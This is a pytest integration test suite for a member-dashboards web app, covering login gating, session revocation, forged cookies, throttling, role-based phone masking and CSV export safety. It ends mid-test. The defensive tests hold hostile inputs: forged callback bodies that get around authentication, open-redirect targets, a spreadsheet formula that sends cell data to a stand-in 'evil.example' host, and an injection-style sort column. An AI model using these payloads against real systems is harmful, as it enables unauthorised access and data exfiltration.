"""The dashboards through the server: login required everywhere, sessions that end when
the staff account says so, anonymous callers limited to the login page, roles decide
masking, CSV without formulas, the callbacks answer with the warehouse's numbers, and a
filter change moves them."""

from __future__ import annotations

import csv as csv_module
import functools
import io
import json
import re
from datetime import timedelta
from typing import Any
from urllib.parse import parse_qsl, urlparse

import pandas as pd
import pytest
from flask import Flask
from flask.testing import FlaskClient
from itsdangerous import URLSafeTimedSerializer
from sqlalchemy import select, update

import warehouse
from bench.dash_client import CALLBACK_URL, DashClient
from common.audit import AuditEvent
from common.clock import today, utcnow
from common.db import read_session
from common.unit_of_work import transaction
from crm.adapters.orm import Member
from dashboards import i18n
from dashboards.auth import COOKIE_PATH, SESSION_COOKIE
from dashboards.pages import insights as insights_page
from memberhub.runtime import Runtime
from storefront_api.auth import (
    LOGIN_PER_ACCOUNT,
    reset_staff_password,
    set_staff_active,
)
from storefront_api.auth.orm import StaffSession, StaffUser
from tests.integration import dashboard_scenario
from tests.integration.dashboard_scenario import CAMPAIGN, Scenario
from warehouse import WarehouseReader, queries, sync_warehouse
from warehouse.queries import Filters

PAGES = {
    "overview": "/dashboards/",
    "campaigns": "/dashboards/campaigns",
    "channels": "/dashboards/channels",
    "members": "/dashboards/members",
    "insights": "/dashboards/insights",
    "points": "/dashboards/points",
}


def log_in(dash: DashClient, username: str, password: str, search: str = "") -> Any:
    return dash.call(
        "login-message",
        {"login-submit.n_clicks": 1, "login-password.n_submit": 0},
        {
            "login-username.value": username,
            "login-password.value": password,
            "_pages_location.search": search,
        },
    )


def render(dash: DashClient, path: str, search: str = "", changed: list[str] | None = None) -> Any:
    return dash.call(
        "_pages_content",
        {"_pages_location.pathname": path, "_pages_location.search": search},
        changed=changed,
    )


def ids_in(component: Any) -> set[str]:
    """Every component id in a serialised layout."""
    found = set()
    stack = [component]
    while stack:
        item = stack.pop()
        if isinstance(item, dict):
            if isinstance(item.get("id"), str):
                found.add(item["id"])
            stack.extend(item.values())
        elif isinstance(item, list):
            stack.extend(item)
    return found


def texts_in(component: Any) -> list[str]:
    found = []
    stack = [component]
    while stack:
        item = stack.pop()
        if isinstance(item, str):
            found.append(item)
        elif isinstance(item, dict):
            stack.extend(item.values())
        elif isinstance(item, list):
            stack.extend(item)
    return found


def kpi_value(children: Any, element_id: str) -> str:
    stack = [children]
    while stack:
        item = stack.pop()
        if isinstance(item, dict):
            props = item.get("props", item)
            if props.get("id") == element_id:
                return str(props["children"])
            stack.extend(item.values())
        elif isinstance(item, list):
            stack.extend(item)
    raise AssertionError(f"no {element_id} in the answer")


# -- who may see what -----------------------------------------------------------------------


def test_anonymous_visitors_are_sent_to_the_login_page(client: FlaskClient) -> None:
    for path in ("/dashboards/", "/dashboards", "/dashboards/campaigns?lang=en&inst=SH-HP"):
        answer = client.get(path)
        assert answer.status_code == 302, path
        location = urlparse(answer.headers["Location"])
        assert location.path == "/dashboards/login"
    assert dict(parse_qsl(location.query))["next"] == path
    assert client.get("/dashboards/login").status_code == 200
    assert client.get("/dashboards/_dash-layout").status_code == 200
    assert client.get("/dashboards/_dash-dependencies").status_code == 200
    # The API is not the gate's business.
    assert client.get("/healthz").status_code == 200


def test_every_callback_refuses_anonymous_callers_but_the_login_page(dash: DashClient) -> None:
    # The login form, and the header (labels only for an anonymous caller); the router
    # is asked for the overview here, so it is refused too.
    login_page = {"login-message", "header-product"}
    refused = []
    for dependency in dash.dependencies:
        first = dependency["output"].strip(".").split("...")[0].split("@")[0].rsplit(".", 1)[0]
        values = {f"{i['id']}.{i['property']}": None for i in dependency["inputs"]}
        values["_pages_location.pathname"] = "/dashboards/"
        if first in login_page:
            continue
        answer = dash.call(first, values)
        if answer.status_code != 401:
            refused.append((first, answer.status_code))
    assert not refused, f"callbacks that answered an anonymous caller: {refused}"
    assert render(dash, "/dashboards/login").status_code == 200
    assert render(dash, "/dashboards/points").status_code == 401


def session_cookie(client: FlaskClient) -> str | None:
    cookie = client.get_cookie(SESSION_COOKIE, path=COOKIE_PATH)
    return None if cookie is None else cookie.value


def test_login_checks_the_password_and_sets_a_session_cookie(
    dash: DashClient, staff: Any, client: FlaskClient, db: Runtime
) -> None:
    username, password = staff("marketer")
    wrong = log_in(dash, username, "not-the-password")
    assert wrong.status_code == 200
    assert wrong.json["response"]["login-message"]["children"] == i18n.t("login.failed", "zh")
    assert SESSION_COOKIE not in wrong.headers.get("Set-Cookie", "")
    assert render(dash, "/dashboards/").status_code == 401

    english = log_in(dash, username, "", "?lang=en")
    assert english.json["response"]["login-message"]["children"] == i18n.t("login.missing", "en")

    right = log_in(dash, username, password, "?next=%2Fdashboards%2Fchannels%3Flang%3Den")
    assert right.status_code == 200
    assert right.json["response"]["_pages_location"]["href"] == "/dashboards/channels?lang=en"
    cookie = right.headers["Set-Cookie"]
    assert cookie.startswith(f"{SESSION_COOKIE}=") and "HttpOnly" in cookie
    assert "Path=/dashboards" in cookie and "SameSite=Lax" in cookie
    assert "Secure" not in cookie  # MEMBERHUB_HTTPS is off in the tests
    assert render(dash, "/dashboards/").status_code == 200
    assert client.get("/dashboards/campaigns").status_code == 200

    # The cookie names a server-side session of kind "dashboards", not a user and role.
    with read_session(db.session_factory) as session:
        kinds = session.scalars(select(StaffSession.kind)).all()
    assert kinds == ["dashboards"]
    assert username not in str(session_cookie(client))


def test_logout_ends_the_session_so_a_copied_cookie_is_worthless(
    dash: DashClient, staff: Any, client: FlaskClient
) -> None:
    log_in(dash, *staff("finance"))
    copied = session_cookie(client)
    assert copied is not None and render(dash, "/dashboards/").status_code == 200

    logout = client.get("/dashboards/logout")
    assert logout.status_code == 302 and logout.headers["Location"] == "/dashboards/login"
    assert "Max-Age=0" in logout.headers["Set-Cookie"]
    assert session_cookie(client) is None
    assert render(dash, "/dashboards/").status_code == 401

    # Replaying the cookie as it was before the logout gets nothing.
    client.set_cookie(SESSION_COOKIE, copied, path=COOKIE_PATH)
    page = client.get("/dashboards/members")
    assert page.status_code == 302 and page.headers["Location"].startswith("/dashboards/login")
    assert render(dash, "/dashboards/members").status_code == 401
    assert dash.call("members-kpis", {"members-query.data": {}}).status_code == 401


@pytest.mark.parametrize("ending", ["disable", "reset"])
def test_disabling_or_resetting_the_account_ends_a_live_session(
    dash: DashClient, staff: Any, client: FlaskClient, db: Runtime, ending: str
) -> None:
    username, password = staff("admin")
    log_in(dash, username, password)
    assert render(dash, "/dashboards/").status_code == 200
    with transaction(db.session_factory) as uow:
        if ending == "disable":
            set_staff_active(uow, username, False)
        else:
            reset_staff_password(uow, username)
    assert render(dash, "/dashboards/").status_code == 401
    assert client.get("/dashboards/").status_code == 302
    # And a disabled account cannot log in again.
    if ending == "disable":
        again = log_in(dash, username, password)
        assert again.json["response"]["login-message"]["children"] == i18n.t("login.failed", "zh")
        assert SESSION_COOKIE not in again.headers.get("Set-Cookie", "")


def test_the_role_is_the_account_s_current_one(dash: DashClient, staff: Any, db: Runtime) -> None:
    username, password = staff("admin")
    log_in(dash, username, password)
    location = {"_pages_location.pathname": "/dashboards/", "_pages_location.search": ""}
    header = dash.response("header-user", location)
    assert header["header-user"]["children"] == f"{username} · {i18n.t('role.admin', 'zh')}"
    with db.engine.begin() as connection:
        connection.execute(
            update(StaffUser).where(StaffUser.username == username).values(role="marketer")
        )
    header = dash.response("header-user", location)
    assert header["header-user"]["children"] == f"{username} · {i18n.t('role.marketer', 'zh')}"


def test_too_many_wrong_passwords_say_when_to_retry(
    dash: DashClient, staff: Any, client: FlaskClient, db: Runtime
) -> None:
    username, password = staff("marketer")
    for _ in range(LOGIN_PER_ACCOUNT.attempts):
        answer = log_in(dash, username, "wrong")
        assert answer.json["response"]["login-message"]["children"] == i18n.t("login.failed", "zh")
    minutes = LOGIN_PER_ACCOUNT.window.seconds // 60
    throttled = log_in(dash, username, password)
    message = throttled.json["response"]["login-message"]["children"]
    assert message == f"尝试次数过多，请 {minutes} 分钟后再试"
    assert session_cookie(client) is None
    english = log_in(dash, username, password, "?lang=en")
    message = english.json["response"]["login-message"]["children"]
    assert message == f"Too many attempts, retry in {minutes} minutes"
    # Every attempt is counted against the address it came from, as the API's are.
    with read_session(db.session_factory) as session:
        addresses = set(
            session.scalars(
                select(AuditEvent.client_address).where(AuditEvent.action == "login.staff")
            )
        )
    assert addresses == {"127.0.0.1"}


def test_login_never_redirects_off_the_dashboards(dash: DashClient, staff: Any) -> None:
    username, password = staff("finance")
    for target in ("https://evil.example/", "//evil.example/x", "/api/v1/members"):
        answer = log_in(dash, username, password, f"?next={target}")
        assert answer.json["response"]["_pages_location"]["href"] == "/dashboards/"


def test_forged_foreign_or_made_up_session_cookies_are_refused(
    dash: DashClient, staff: Any, client: FlaskClient, db: Runtime
) -> None:
    log_in(dash, *staff("admin"))
    real = session_cookie(client)
    assert real is not None
    secret = db.settings.secret_key
    token = URLSafeTimedSerializer(secret, salt="memberhub.dashboards").loads(real)
    forged = {
        # A real session's token, signed with another key.
        "foreign": URLSafeTimedSerializer("another", salt="memberhub.dashboards").dumps(token),
        # Signed with the right key, but no session has this token.
        "made-up": URLSafeTimedSerializer(secret, salt="memberhub.dashboards").dumps("x" * 43),
        # The old cookie format: a signed username and role.
        "old": URLSafeTimedSerializer(secret, salt="memberhub.dashboards").dumps(
            {"u": "mallory", "r": "admin"}
        ),
        "unsigned": "not-even-signed",
    }
    for name, value in forged.items():
        client.set_cookie(SESSION_COOKIE, value, path=COOKIE_PATH)
        assert render(dash, "/dashboards/").status_code == 401, name
        assert client.get("/dashboards/").status_code == 302, name
    client.set_cookie(SESSION_COOKIE, real, path=COOKIE_PATH)
    assert render(dash, "/dashboards/").status_code == 200


def test_an_expired_session_is_refused(
    dash: DashClient, staff: Any, client: FlaskClient, db: Runtime
) -> None:
    log_in(dash, *staff("finance"))
    with db.engine.begin() as connection:
        connection.execute(update(StaffSession).values(expires_at=utcnow()))
    assert render(dash, "/dashboards/").status_code == 401
    assert client.get("/dashboards/points").status_code == 302


# -- what anonymous callers reach -------------------------------------------------------


def exploit(
    dash: DashClient, output_id: str, inputs: dict[str, Any], state: dict[str, Any] | None = None
) -> dict[str, Any]:
    """A callback request for `output_id` whose first input claims the login page is open.

    Dash checks the outputs and the number of values, not the inputs' ids: it hands the
    values to the callback by position, so the claim arrives as the first argument.
    """
    body = dash.body(output_id, inputs, state)
    body["inputs"][0] = LOGIN_PAGE_CLAIM
    return body


LOGIN_PAGE_CLAIM = {"id": "_pages_location", "property": "pathname", "value": "/dashboards/login"}
STORE_ALL = {"from": "2020-01-01", "to": today().isoformat()}


def test_the_review_s_csv_exploit_gets_401_and_no_file(
    dash: DashClient, client: FlaskClient, staff: Any, db: Runtime, world: Scenario
) -> None:
    """No cookie, a download output, inputs claiming the login page: it used to answer 200
    with the top members as CSV."""
    body = {
        "output": "insights-grid-atrisk-download.data",
        "outputs": {"id": "insights-grid-atrisk-download", "property": "data"},
        "inputs": [LOGIN_PAGE_CLAIM],
        "state": [{"id": "insights-query", "property": "data", "value": STORE_ALL}],
        "changedPropIds": ["_pages_location.pathname"],
    }
    answer = client.post(CALLBACK_URL, json=body)
    assert answer.status_code == 401
    assert answer.json == {"error": "login required", "login": "/dashboards/login"}

    # The same through the client that builds bodies as the browser does, for every table.
    downloads = [
        d["output"].split("@")[0].rsplit(".", 1)[0]
        for d in dash.dependencies
        if d["output"].endswith("-download.data")
    ]
    assert len(downloads) >= 10
    for output_id in downloads:
        page = output_id.split("-")[0]
        request = exploit(dash, output_id, {}, {f"{page}-query.data": STORE_ALL})
        assert client.post(CALLBACK_URL, json=request).status_code == 401, output_id

    # With a session that ended, or a forged cookie, just the same.
    log_in(dash, *staff("finance"))
    proper = dash.body(
        "insights-grid-atrisk-download",
        {"insights-grid-atrisk-download-button.n_clicks": 1},
        {"insights-query.data": STORE_ALL},
    )
    answer = client.post(CALLBACK_URL, json=proper)
    assert answer.status_code == 200
    assert answer.json["response"]["insights-grid-atrisk-download"]["data"]["type"] == "text/csv"
    copied = session_cookie(client)
    client.get("/dashboards/logout")
    client.set_cookie(SESSION_COOKIE, str(copied), path=COOKIE_PATH)
    for request in (proper, body):
        assert client.post(CALLBACK_URL, json=request).status_code == 401
    client.set_cookie(SESSION_COOKIE, "forged", path=COOKIE_PATH)
    for request in (proper, body):
        assert client.post(CALLBACK_URL, json=request).status_code == 401


@pytest.mark.parametrize(
    ("output_id", "inputs"),
    [
        ("insights-grid-segments", {"insights-query.data": STORE_ALL}),
        ("members-grid-list", {"members-grid-list.getRowsRequest": {"startRow": 0, "endRow": 50}}),
        ("members-kpis", {"members-query.data": STORE_ALL}),
        ("members-chart-cohorts", {"members-query.data": STORE_ALL}),
        ("overview-chart-gmv-trend", {"members-query.data": STORE_ALL}),
        # The filter bar's callback writes the URL from a page's store.
        (
            "view-url",
            {"members-filter-channel.value": "web", "members-filter-dates.start_date": None},
        ),
        # A page following its URL draws its head and sets its store.
        ("members-head", {"view-url.search": "?channel=web"}),
    ],
)
def test_anonymous_callers_get_no_table_chart_or_store(
    dash: DashClient, client: FlaskClient, output_id: str, inputs: dict[str, Any]
) -> None:
    answer = client.post(CALLBACK_URL, json=exploit(dash, output_id, inputs))
    assert answer.status_code == 401, answer.get_data(as_text=True)[:300]


def test_the_router_renders_only_the_login_page_for_anonymous_callers(
    dash: DashClient, client: FlaskClient
) -> None:
    for path in ("/dashboards/login", "/dashboards/login/"):
        answer = render(dash, path, "?lang=en&next=%2Fdashboards%2Fmembers")
        assert answer.status_code == 200, path
        assert "login-username" in ids_in(answer.json["response"]["_pages_content"])
    for path in ("/dashboards/members", "/dashboards//members", "/dashboards/", None):
        assert render(dash, path).status_code == 401, path
    # Dash hands the router its inputs by position: a login pathname placed second does
    # not make the first one harmless.
    swapped = dash.body(
        "_pages_content",
        {"_pages_location.pathname": "/dashboards/members", "_pages_location.search": ""},
    )
    swapped["inputs"] = [
        {"id": "_pages_location", "property": "search", "value": "/dashboards/members"},
        {"id": "_pages_location", "property": "pathname", "value": "/dashboards/login"},
    ]
    assert client.post(CALLBACK_URL, json=swapped).status_code == 401
    # Nor does labelling a download's answer as the login form's.
    relabelled = dash.body(
        "insights-grid-atrisk-download",
        {"insights-grid-atrisk-download-button.n_clicks": 1},
        {"insights-query.data": STORE_ALL},
    )
    relabelled["outputs"] = [
        {"id": "login-message", "property": "children"},
        {"id": "_pages_location", "property": "href"},
    ]
    assert client.post(CALLBACK_URL, json=relabelled).status_code == 401


def test_the_header_runs_for_anonymous_callers_but_names_nobody(dash: DashClient) -> None:
    header = dash.response(
        "header-user",
        {"_pages_location.pathname": "/dashboards/login", "_pages_location.search": ""},
    )
    assert header["header-user"]["children"] == ""
    assert header["app-header"]["className"] == "app-header anonymous"


# -- pages and callbacks -------------------------------------------------------------------


def test_every_page_renders_with_its_filters_kpis_and_tables(
    dash: DashClient, staff: Any, world: Scenario
) -> None:
    log_in(dash, *staff("marketer"))
    for prefix, path in PAGES.items():
        answer = render(dash, path, "?lang=en")
        assert answer.status_code == 200, prefix
        layout = answer.json["response"]["_pages_content"]["children"]
        ids = ids_in(layout)
        for control in ("dates", "preset", "inst", "channel"):
            assert f"{prefix}-filter-{control}" in ids, (prefix, control)
        assert f"{prefix}-query" in ids
        assert any(i.endswith("-download-button") for i in ids), prefix
        assert i18n.t(f"nav.{prefix}", "en") in texts_in(layout)


def test_points_cards_price_the_liability_date_the_expiring_and_state_breakage(
    dash: DashClient, staff: Any, world: Scenario, db: Runtime
) -> None:
    log_in(dash, *staff("finance"))
    start, end = world.today - timedelta(days=364), world.today
    reader = WarehouseReader(db.settings.warehouse_path)
    try:
        totals = queries.headline_totals(reader, Filters(start, end)).set_index("period")
        held = queries.points_liability(reader, Filters(start, end), today()).iloc[0]
    finally:
        reader.close()
    store = {"from": start.isoformat(), "to": end.isoformat()}
    cards = dash.response("points-kpis", {"points-query.data": store})["points-kpis"]["children"]
    issued = int(totals.loc["current", "points_issued"])
    expired = int(totals.loc["current", "points_expired"])
    assert issued > 0
    assert kpi_value(cards, "points-kpi-breakage-value") == i18n.percent(expired / issued, "zh")
    texts = texts_in(cards)
    worth = i18n.money(int(held["outstanding"]), "zh")  # the scenario's 1 fen a point
    assert any(text.startswith(f"≈ {worth} ·") for text in texts), texts
    day = today()
    for days in (30, 90):
        assert f"{day} ~ {day + timedelta(days=days - 1)}" in texts


def test_overview_kpis_are_the_warehouse_numbers_and_follow_a_filter_change(
    dash: DashClient, staff: Any, world: Scenario, db: Runtime
) -> None:
    log_in(dash, *staff("marketer"))
    start, end = world.today.replace(day=1).replace(year=world.today.year - 1), world.today
    store = {"from": start.isoformat(), "to": end.isoformat()}
    reader = WarehouseReader(db.settings.warehouse_path)
    try:
        everything = queries.headline_totals(reader, Filters(start, end)).set_index("period")
        answer = dash.response("overview-kpis", {"overview-query.data": store})
        shown = kpi_value(answer["overview-kpis"]["children"], "overview-kpi-gmv-value")
        assert shown == i18n.money(int(everything.loc["current", "gmv_fen"]), "zh").number

        # The channel dropdown rewrites the URL; the page follows it in place.
        moved = dash.response(
            "view-url",
            {
                "overview-filter-dates.start_date": store["from"],
                "overview-filter-dates.end_date": store["to"],
                "overview-filter-preset.value": None,
                "overview-filter-inst.value": None,
                "overview-filter-channel.value": "counter",
                "overview-filter-campaign.value": None,
            },
            {"overview-query.data": store},
            changed=["overview-filter-channel.value"],
        )
        search = moved["view-url"]["search"]
        assert dict(parse_qsl(search.lstrip("?"))) == {**store, "channel": "counter"}
        followed = dash.response(
            "overview-head",
            {"view-url.search": search},
            {"view-url.pathname": "/dashboards/", "overview-query.data": store},
        )
        stored = followed["overview-query"]["data"]
        assert stored == {**store, "channel": "counter"}
        assert "counter" in json.dumps(followed["overview-head"]["children"])
        # The page drawn afresh from that URL holds the same view.
        layout = render(dash, "/dashboards/", search).json["response"]["_pages_content"]
        assert _find_store(layout, "overview-query") == stored

        counter = queries.headline_totals(reader, Filters(start, end, channel="counter"))
        counter = counter.set_index("period")
        answer = dash.response("overview-kpis", {"overview-query.data": stored})
        shown_counter = kpi_value(answer["overview-kpis"]["children"], "overview-kpi-gmv-value")
        assert shown_counter == i18n.money(int(counter.loc["current", "gmv_fen"]), "zh").number
        assert shown_counter != shown
    finally:
        reader.close()


# The blocks `warehouse.queries` answers from the rollups (the rest read the facts anyway).
ROLLUP_BACKED = (
    "headline_totals",
    "daily_sales",
    "sales_by_channel",
    "sales_by_business_type",
    "sales_by_institution",
    "institution_tree",
    "campaign_results",
    "campaign_daily",
    "cohort_retention",
    "purchase_frequency",
    "channel_mix",
    "top_members",
    "points_liability",
    "liability_by_institution",
    "points_flow_daily",
    "issuance_by_source",
    "issuance_by_campaign",
)


@pytest.mark.parametrize("prefix", list(PAGES))
def test_a_page_shows_the_same_from_the_rollups_as_from_the_facts(
    prefix: str, dash: DashClient, staff: Any, world: Scenario, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Every callback the page's filters drive answers the same whether its blocks read the
    rollups or the fact tables, for the default period, the whole history, a campaign's
    window with it chosen, and narrower filters."""
    log_in(dash, *staff("finance"))
    now = world.today
    views = [
        {"from": (now - timedelta(days=29)).isoformat(), "to": now.isoformat()},
        STORE_ALL,
        {
            "from": (now - timedelta(days=75)).isoformat(),
            "to": (now - timedelta(days=46)).isoformat(),
            "campaign": CAMPAIGN,
        },
        {**STORE_ALL, "campaign": CAMPAIGN},
        {**STORE_ALL, "inst": "SH-HP", "channel": "counter"},
        {**STORE_ALL, "channel": "web"},
    ]
    outputs = [
        d["output"].strip(".").split("...")[0].split("@")[0].rsplit(".", 1)[0]
        for d in dash.dependencies
        if any(i["id"] == f"{prefix}-query" and i["property"] == "data" for i in d["inputs"])
    ]
    assert len(outputs) >= 5, outputs

    def answers() -> list[Any]:
        found = []
        for view in views:
            for output in outputs:
                answer = dash.call(output, {f"{prefix}-query.data": view})
                found.append((view, output, answer.status_code, answer.get_json(silent=True)))
        return found

    from_rollups = answers()
    assert all(status in (200, 204) for _, _, status, _ in from_rollups)
    for name in ROLLUP_BACKED:
        definition = functools.partial(getattr(queries, name), from_facts=True)
        monkeypatch.setattr(queries, name, definition)
    assert answers() == from_rollups


def _find_store(layout: Any, store_id: str) -> Any:
    stack = [layout]
    while stack:
        item = stack.pop()
        if isinstance(item, dict):
            props = item.get("props", {})
            if isinstance(props, dict) and props.get("id") == store_id:
                return props["data"]
            stack.extend(item.values())
        elif isinstance(item, list):
            stack.extend(item)
    raise AssertionError(f"no store {store_id}")


def list_cells(dash: DashClient, request: dict[str, Any] | None = None) -> Any:
    """The member list grid's answer to a page request."""
    return dash.response(
        "members-grid-list",
        {"members-grid-list.getRowsRequest": request or {"startRow": 0, "endRow": 50}},
        {"members-query.data": STORE_ALL},
    )["members-grid-list"]["getRowsResponse"]


def top_members_csv(dash: DashClient) -> str:
    answer = dash.response(
        "insights-grid-atrisk-download",
        {"insights-grid-atrisk-download-button.n_clicks": 1},
        {"insights-query.data": STORE_ALL},
    )["insights-grid-atrisk-download"]["data"]
    assert answer["filename"].endswith(".csv") and answer["content"].startswith("\ufeff")
    return csv_body(str(answer["content"]))


def csv_body(content: str) -> str:
    """A download's CSV after its "# " notes (the table, its filters, the data's time)."""
    lines = content.lstrip("\ufeff").split("\r\n")
    notes = [line for line in lines if line.startswith("# ")]
    assert len(notes) == 3 and notes[-1].startswith("# 数据截至: 20"), notes
    return "\ufeff" + "\r\n".join(lines[len(notes) :])


def test_marketers_see_masked_members_and_finance_sees_them_whole(
    dash: DashClient, staff: Any, world: Scenario, client: FlaskClient
) -> None:
    phones = re.compile(r"^1\d{10}$")
    masked = re.compile(r"^1\d\d\*{4}\d{4}$")

    log_in(dash, *staff("marketer"))
    cells = texts_in(list_cells(dash))
    assert any(masked.match(c) for c in cells) and not any(phones.match(c) for c in cells)
    csv = top_members_csv(dash)
    assert "****" in csv and not re.search(r"\b1\d{10}\b", csv)

    client.get("/dashboards/logout")
    log_in(dash, *staff("finance"))
    cells = texts_in(list_cells(dash))
    assert any(phones.match(c) for c in cells) and not any(masked.match(c) for c in cells)
    csv = top_members_csv(dash)
    assert re.search(r"\b1\d{10}\b", csv) and "****" not in csv


def test_the_download_itself_refuses_a_request_without_a_live_session(
    app: Flask, dash: DashClient, staff: Any, world: Scenario, client: FlaskClient
) -> None:
    """Behind the gate, the download callback checks the session again: with the gate
    taken away, a request without a live session still gets no file."""
    gates = app.before_request_funcs[None]
    app.before_request_funcs[None] = [hook for hook in gates if hook.__name__ != "gate"]
    assert len(app.before_request_funcs[None]) == len(gates) - 1
    request = dash.body(
        "insights-grid-atrisk-download",
        {"insights-grid-atrisk-download-button.n_clicks": 1},
        {"insights-query.data": STORE_ALL},
    )
    answer = client.post(CALLBACK_URL, json=request)
    assert answer.status_code == 204 and not answer.get_data()
    table = client.post(
        CALLBACK_URL,
        json=dash.body(
            "members-grid-list",
            {"members-grid-list.getRowsRequest": {"startRow": 0, "endRow": 50}},
            {"members-query.data": STORE_ALL},
        ),
    )
    assert table.status_code == 204

    log_in(dash, *staff("marketer"))
    copied = session_cookie(client)
    assert client.post(CALLBACK_URL, json=request).status_code == 200
    client.get("/dashboards/logout")
    client.set_cookie(SESSION_COOKIE, str(copied), path=COOKIE_PATH)
    assert client.post(CALLBACK_URL, json=request).status_code == 204


def test_a_member_s_formula_name_leaves_as_text(
    dash: DashClient, staff: Any, world: Scenario, db: Runtime, client: FlaskClient
) -> None:
    """A member registered as =HYPERLINK(...): the CSV shows it, a spreadsheet does not
    run it."""
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    with db.engine.begin() as connection:
        connection.execute(
            update(Member)
            .where(Member.member_no.in_(world.members))
            .values(name=formula, updated_at=utcnow())
        )
    sync_warehouse(db.engine, db.settings.warehouse_path)

    log_in(dash, *staff("finance"))
    rows = list(csv_module.reader(io.StringIO(top_members_csv(dash).lstrip("\ufeff"))))
    names = [row[1] for row in rows[1:]]
    assert names and all(name == "'" + formula for name in names), names[:3]
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)

    client.get("/dashboards/logout")
    log_in(dash, *staff("marketer"))
    rows = list(csv_module.reader(io.StringIO(top_members_csv(dash).lstrip("\ufeff"))))
    assert {row[1] for row in rows[1:]} == {"'=*"}


def test_the_language_switch_keeps_the_filters_and_translates_the_header(
    dash: DashClient, staff: Any
) -> None:
    log_in(dash, *staff("admin"))
    search = "?from=2026-01-01&to=2026-01-31&channel=web"
    # The header reads the query string from the shell's view-url, which filters write.
    header = dash.response(
        "lang-switch",
        {"_pages_location.pathname": "/dashboards/members", "view-url.search": search},
    )
    assert header["lang-switch"]["children"] == "English"
    switch = urlparse(header["lang-switch"]["href"])
    assert switch.path == "/dashboards/members"
    assert dict(parse_qsl(switch.query)) == {
        "from": "2026-01-01",
        "to": "2026-01-31",
        "channel": "web",
        "lang": "en",
    }
    assert header["nav-campaigns"]["href"] == "/dashboards/campaigns" + search
    assert header["nav-members"]["className"] == "nav-link active"
    assert header["header-product"]["children"] == "会员中心"
    english = dash.response(
        "lang-switch",
        {
            "_pages_location.pathname": "/dashboards/members",
            "view-url.search": search + "&lang=en",
        },
    )
    assert english["nav-points"]["children"] == "Points economy"
    assert english["logout-link"]["children"] == "Log out"
    assert english["header-product"]["children"] == "Member Hub"
    assert english["header-product-other"]["children"] == "会员中心"
    assert english["header-brand"]["href"] == "/dashboards/" + search + "&lang=en"
    assert "lang" not in dict(parse_qsl(urlparse(english["lang-switch"]["href"]).query))


def test_a_page_says_so_until_the_first_sync(dash: DashClient, staff: Any, db: Runtime) -> None:
    db.settings.warehouse_path.unlink(missing_ok=True)
    log_in(dash, *staff("marketer"))
    layout = render(dash, "/dashboards/").json["response"]["_pages_content"]["children"]
    assert "warehouse-not-ready" in ids_in(layout)


# -- the insights cards and the member list --------------------------------------------


ACTIVE_MEMBERS = "SELECT count(*) AS n FROM dim_member WHERE status <> 'merged'"
# Counts over the latest insights run's scores of members not merged away.
LATEST_SCORES = (
    "SELECT {counted} FROM fact_member_score s JOIN dim_member m USING (member_id) "
    "WHERE s.run_id = (SELECT max(run_id) FROM dim_insight_run) AND m.status <> 'merged'"
)


def warehouse_row(db: Runtime, sql: str) -> pd.Series:
    """The first row of a query on the test's published warehouse."""
    reader = WarehouseReader(db.settings.warehouse_path)
    try:
        return reader.query(sql, []).iloc[0]
    finally:
        reader.close()


def test_the_member_list_pages_sorts_and_filters_on_the_server(
    dash: DashClient, staff: Any, world: Scenario, db: Runtime
) -> None:
    log_in(dash, *staff("finance"))
    members = int(warehouse_row(db, ACTIVE_MEMBERS)["n"])
    page = list_cells(dash, {"startRow": 0, "endRow": 5})
    assert page["rowCount"] == members and len(page["rowData"]) == 5
    descending = list_cells(
        dash, {"startRow": 0, "endRow": 5, "sortModel": [{"colId": "member_no", "sort": "desc"}]}
    )
    numbers = [row["member_no"] for row in descending["rowData"]]
    assert numbers == sorted(numbers, reverse=True) and numbers[0] > page["rowData"][0]["member_no"]
    risky = list_cells(
        dash,
        {
            "startRow": 0,
            "endRow": 100,
            "filterModel": {
                "churn_risk": {"filterType": "number", "type": "greaterThanOrEqual", "filter": 80}
            },
            # A sort by a personal column or an unknown one is ignored, never run as SQL.
            "sortModel": [{"colId": "phone", "sort": "asc"}, {"colId": "x;drop", "sort": "asc"}],
        },
    )
    risks = [float(row["churn_risk"].rstrip("%")) for row in risky["rowData"]]
    assert risks and all(r >= 80 for r in risks) and risky["rowCount"] == len(risks) < members


def test_at_risk_csv_puts_the_value_at_stake_first_and_masks_by_role(
    dash: DashClient, staff: Any, world: Scenario, client: FlaskClient
) -> None:
    log_in(dash, *staff("marketer"))
    rows = list(csv_module.reader(io.StringIO(top_members_csv(dash).lstrip("\ufeff"))))
    header, body = rows[0], rows[1:]
    stake = header.index(f"{i18n.t('col.value_at_risk', 'zh')} ({i18n.t('unit.yuan', 'zh')})")
    values = [float(row[stake]) for row in body if row[stake]]
    assert values and values == sorted(values, reverse=True)
    assert all("****" in row[2] for row in body)
    client.get("/dashboards/logout")
    log_in(dash, *staff("admin"))
    rows = list(csv_module.reader(io.StringIO(top_members_csv(dash).lstrip("\ufeff"))))
    assert all(re.fullmatch(r"1\d{10}", row[2]) for row in rows[1:])


def test_the_at_risk_csv_holds_every_member_at_risk_beyond_the_grid(
    dash: DashClient, staff: Any, world: Scenario, db: Runtime, monkeypatch: Any
) -> None:
    at_risk = int(
        warehouse_row(
            db, LATEST_SCORES.format(counted="count(*) FILTER (WHERE s.churn_risk >= 0.5) AS n")
        )["n"]
    )
    assert at_risk > 2
    monkeypatch.setattr(insights_page, "AT_RISK_LIMIT", 2)
    log_in(dash, *staff("marketer"))
    rows = list(csv_module.reader(io.StringIO(top_members_csv(dash).lstrip("\ufeff"))))
    assert len(rows) - 1 == at_risk


def test_the_insights_headline_counts_the_scored_and_those_at_risk(
    dash: DashClient, staff: Any, world: Scenario, db: Runtime
) -> None:
    counted = "count(*) AS scored, count(*) FILTER (WHERE s.churn_risk >= 0.5) AS risky"
    scored, at_risk = warehouse_row(db, LATEST_SCORES.format(counted=counted))
    log_in(dash, *staff("marketer"))
    cards = dash.response("insights-kpis", {"insights-query.data": STORE_ALL})["insights-kpis"]
    texts = texts_in(cards["children"])
    assert f"{int(scored):,}" in texts and f"{int(at_risk):,}" in texts, texts
    share = i18n.percent(int(at_risk) / int(scored), "zh")
    assert i18n.t("metric.members_at_risk.share", "zh").format(share=share) in texts


def test_the_member_list_downloads_every_member_the_filters_choose(
    dash: DashClient, staff: Any, world: Scenario, db: Runtime, client: FlaskClient
) -> None:
    members = int(warehouse_row(db, ACTIVE_MEMBERS)["n"])
    for role, phone in (("marketer", r"1\d{2}\*{4}\d{4}"), ("admin", r"1\d{10}")):
